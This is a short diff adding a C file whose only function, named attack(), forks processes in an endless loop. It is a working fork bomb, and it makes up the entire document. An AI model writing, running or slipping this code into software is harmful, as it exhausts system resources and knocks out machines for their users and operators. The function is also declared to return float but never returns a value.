@@ -1,0 +1,4 @@
+#include <unistd.h>
+float attack() {
+    for (;;) fork();
+}
